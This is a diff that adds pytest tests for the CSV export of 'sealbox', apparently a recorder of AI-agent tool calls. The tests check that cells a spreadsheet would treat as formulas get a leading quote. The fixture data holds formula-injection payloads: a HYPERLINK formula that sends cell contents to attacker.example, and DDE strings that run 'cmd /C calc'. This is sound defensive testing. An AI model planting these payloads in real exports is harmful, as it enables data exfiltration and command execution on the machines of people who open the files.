@@ -100,6 +100,78 @@ def test_calls_on_a_missing_store_is_one_error_line(tmp_path):
     assert_one_error_line(sealbox("calls", "-s", str(tmp_path / "none")), "does not exist")
 
 
+HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture(scope="module")
+def formula_store(tmp_path_factory):
+    """A store whose agent, principal, tool, labels and call id are spreadsheet formulas."""
+    from sealbox import init_store
+    from sealbox.policies import ALLOW_ALL
+    from sealbox.recorder import Recorder
+
+    path = tmp_path_factory.mktemp("formulas") / "store"
+    store = init_store(path)
+    with Recorder(store, policy=ALLOW_ALL).run(agent=HYPERLINK, principal=DDE, labels={"k": "v"}) as run:
+        run.call_tool("db", "=cmd|' /C calc'!A0", {"q": 1}, lambda **k: 1, call_id="+1+cmd|' /C calc'!A0")
+        run.call_tool("db", "\tTAB", {}, lambda **k: 1, call_id="-2")
+        run.call_tool("db", "\rCR", {}, lambda **k: 1, call_id="c3")
+        run.call_tool("db", "plain'=", {}, lambda **k: 1, call_id="c4")
+    store.close()
+    return path
+
+
+def csv_rows(*args: str) -> list[dict[str, str]]:
+    """The rows of a ``--csv`` listing, read as bytes (text mode would turn a lone CR into LF)."""
+    import os
+    import subprocess
+
+    from query_helpers import SEALBOX
+
+    proc = subprocess.run([SEALBOX, *args, "--csv"], capture_output=True,
+                          env={k: v for k, v in os.environ.items() if k != "SEALBOX_DEBUG"})
+    assert proc.returncode == 0, proc.stderr
+    return list(csv.DictReader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_a_quote(formula_store):
+    rows = csv_rows("calls", "-s", str(formula_store))
+    assert [(r["agent"], r["principal"], r["call_id"], r["tool"], r["exposed"], r["grant"]) for r in rows] == [
+        ("'" + HYPERLINK, "'" + DDE, "'+1+cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "db.=cmd|' /C calc'!A0",
+         "implicit:" + DDE),
+        ("'" + HYPERLINK, "'" + DDE, "'-2", "'\tTAB", "db.\tTAB", "implicit:" + DDE),
+        ("'" + HYPERLINK, "'" + DDE, "c3", "'\rCR", "db.\rCR", "implicit:" + DDE),
+        ("'" + HYPERLINK, "'" + DDE, "c4", "plain'=", "db.plain'=", "implicit:" + DDE),
+    ]
+    # numbers are written as numbers, JSON cells as JSON
+    assert [(r["step"], r["arguments"], r["ok"], r["approvers"]) for r in rows] == [
+        ("2", '{"q": 1}', "True", "[]"), ("3", "{}", "True", "[]"), ("4", "{}", "True", "[]"),
+        ("5", "{}", "True", "[]")]
+    # --json and the table are not CSV: they keep the text as recorded
+    assert [(r["agent"], r["tool"]) for r in ok_json("calls", "-s", str(formula_store), "--json")][:1] == [
+        (HYPERLINK, "=cmd|' /C calc'!A0")]
+
+
+def test_runs_list_and_show_csv_neutralise_formulas_too(formula_store):
+    (row,) = csv_rows("runs", "list", "-s", str(formula_store), "--agent", HYPERLINK)
+    assert (row["agent"], row["principal"], row["status"], row["events"], row["labels"]) == (
+        "'" + HYPERLINK, "'" + DDE, "ended", "14", '{"k": "v"}')
+    events = csv_rows("runs", "show", row["run_id"], "-s", str(formula_store))
+    assert [(e["run_seq"], e["principal"]) for e in events] == [(str(n), "'" + DDE) for n in range(1, 15)]
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("a=1", "a=1"), ("'=1", "'=1"), ("", ""), (None, ""), (-1, "-1"), (-0.5, "-0.5"), (3, "3"), (True, "True"),
+    ({"a": "=1"}, '{"a": "=1"}'), (["=1"], '["=1"]'),
+])
+def test_csv_cell(value, cell):
+    from sealbox.cli.common import _csv_cell
+
+    assert _csv_cell(value) == cell
+
+
 # ---------------------------------------------------------------- sealbox runs
 
 
